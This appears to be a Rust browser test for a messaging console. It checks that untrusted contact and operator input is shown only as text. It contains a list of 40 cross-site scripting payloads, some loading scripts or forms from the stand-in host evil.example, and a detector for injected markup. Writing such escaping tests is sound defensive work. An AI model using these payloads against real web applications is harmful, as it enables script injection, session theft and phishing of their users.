//! The console shows untrusted input only as text.

use std::collections::BTreeSet;

use serde_json::{Value, json};
use weir_tests::Chromium;

use crate::support::{envelope, text_of};
use crate::{Console, Result};

/// Payloads of a hostile contact, used in every field that a contact controls.
const PAYLOADS: [&str; 40] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import'//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<img src=//evil.example/pixel.png>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "`-alert(1)-`",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u{202e}<script>alert(1)</script>\u{2066}",
    "<x style='position:fixed;inset:0' onmouseover=alert(1)>x</x>",
];

#[tokio::test]
async fn nothing_that_anybody_writes_becomes_markup_or_runs() -> Result {
    let console = Console::signed_in().await?;
    let names: BTreeSet<&str> = PAYLOADS.into_iter().collect();
    assert_eq!(names.len(), 40);
    let business = text_of(&console.weir.channel["platform_id"])?;
    let now = console.weir.now().await?;
    // As texts, names, links, referrals, and in what the platform calls things.
    for (n, payload) in PAYLOADS.into_iter().enumerate() {
        for kind in ["text", "share_post", payload] {
            let person = format!("U{}", n % 4);
            let mut content = json!({
                "from": payload, "to": "acme_store", "unique_identifier": person,
                "from_user": {"id": person, "role": "personal_account"},
                "to_user": {"id": business, "role": "business_account"},
                "conversation_id": format!("C{}", n % 4), "message_id": format!("M{n}{}", kind.len()),
                "timestamp": now + i64::try_from(n)?, "type": kind, "text": {"body": payload},
                "share_post": {"embed_url": payload, "item_id": payload},
            });
            let body = envelope(&business, "im_receive_msg", now / 1000, &content);
            assert_eq!(console.weir.webhook(&body, 0).await?, 200, "{payload}");
            content["referral"] = json!({"source": payload, "ad": {
                "advertiser_id": payload, "ad_id": payload, "ad_name": payload, "embed_url": payload, "message_material_id": payload,
                "timestamp": now,
            }});
            let body = envelope(&business, "im_referral_msg", now / 1000, &content);
            assert_eq!(console.weir.webhook(&body, 0).await?, 200, "{payload}");
        }
    }
    // Input of operators is shown to other operators.
    let api = &console.weir.stack.api;
    let channel = text_of(&console.weir.channel["id"])?;
    let labels: serde_json::Map<String, Value> = PAYLOADS
        .iter()
        .take(20)
        .map(|it| ((*it).to_owned(), json!(*it)))
        .collect();
    let request = api.request("PATCH".parse()?, &format!("/v1/channels/{channel}"));
    api.send(request.json(&json!({"name": PAYLOADS[1], "labels": labels})))
        .await?
        .expect(200)?;
    for payload in PAYLOADS.iter().take(12) {
        api.post("/v1/keys", json!({"name": payload, "scopes": ["read"]}))
            .await?
            .expect(201)?;
        api.post(
            "/v1/endpoints",
            json!({"url": "http://127.0.0.1:9/", "description": payload, "types": ["endpoint.failing"]}),
        )
        .await?
        .expect(201)?;
    }
    let conversations = api.get("/v1/conversations").await?.expect(200)?;
    let ids: Vec<String> = conversations["data"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|it| text_of(&it["id"]))
        .collect::<anyhow::Result<_>>()?;
    assert!(ids.len() >= 4, "{conversations:#}");

    api.say(&ids[0], &PAYLOADS[0].repeat(300)).await?.problem(422)?;

    let browser = &console.browser;
    let mut seen = String::new();
    for id in &ids {
        browser.open(&console.url(&format!("/inbox/{id}"))).await?;
        browser.holds("document.querySelector('.message')").await?;
        seen.push_str(&browser.text(".thread").await?);
        // File names are the operator's browser's own.
        let file = "const given = new DataTransfer(); given.items.add(new File([arguments[1]], arguments[0], { type: 'image/png' }));
            const input = document.querySelector('.composer input[type=file]'); input.files = given.files; input.dispatchEvent(new Event('change'));";
        browser.script(file, json!([PAYLOADS[1], "x"])).await?;
        no_strangers(browser).await?;
        console.is_innocent().await?;
    }
    for payload in PAYLOADS {
        let plain: String = payload
            .chars()
            .filter(|c| !matches!(c, '\u{202e}' | '\u{2066}' | '\t'))
            .collect();
        let seen: String = seen
            .chars()
            .filter(|c| !matches!(c, '\u{202e}' | '\u{2066}' | '\t'))
            .collect();
        assert!(seen.contains(&plain), "{payload} is not shown as it was written");
    }
    for (path, ready) in [
        (format!("/channels/{channel}"), ".checks"),
        ("/channels".to_owned(), ".card"),
        ("/events".to_owned(), ".tail li"),
        ("/refusals".to_owned(), ".tablewrap"),
        ("/endpoints".to_owned(), ".card"),
        ("/settings".to_owned(), "tbody tr"),
        ("/settings?show=audit".to_owned(), ".tail li"),
        ("/".to_owned(), ".figures"),
    ] {
        browser.open(&console.url(&path)).await?;
        browser
            .holds(&format!("document.querySelector({})", json!(ready)))
            .await?;
        browser
            .script(
                "for (const it of document.querySelectorAll('details')) it.open = true",
                json!([]),
            )
            .await?;
        browser.holds("!document.querySelector('[aria-busy]')").await?;
        no_strangers(browser).await?;
        console.is_innocent().await?;
    }
    Ok(())
}

/// The page has no element that only a payload would create, and no attribute that runs code.
async fn no_strangers(browser: &Chromium) -> Result {
    let found = browser
        .script(
            "const tags = 'script:not([src^=\"/console/\"]), iframe, object, embed, audio, video, source, math, style, base, meta[http-equiv], x, form[action]';
             const running = [...document.querySelectorAll('*')].filter((it) => [...it.attributes].some((one) => /^on/.test(one.name) || (/^(href|src|action|formaction)$/.test(one.name) && /^\\s*(java\\s*script|data):/i.test(one.value))));
             return [...document.querySelectorAll(tags), ...running].map((it) => it.outerHTML.slice(0, 200))",
            json!([]),
        )
        .await?;
    assert_eq!(found, json!([]));
    Ok(())
}
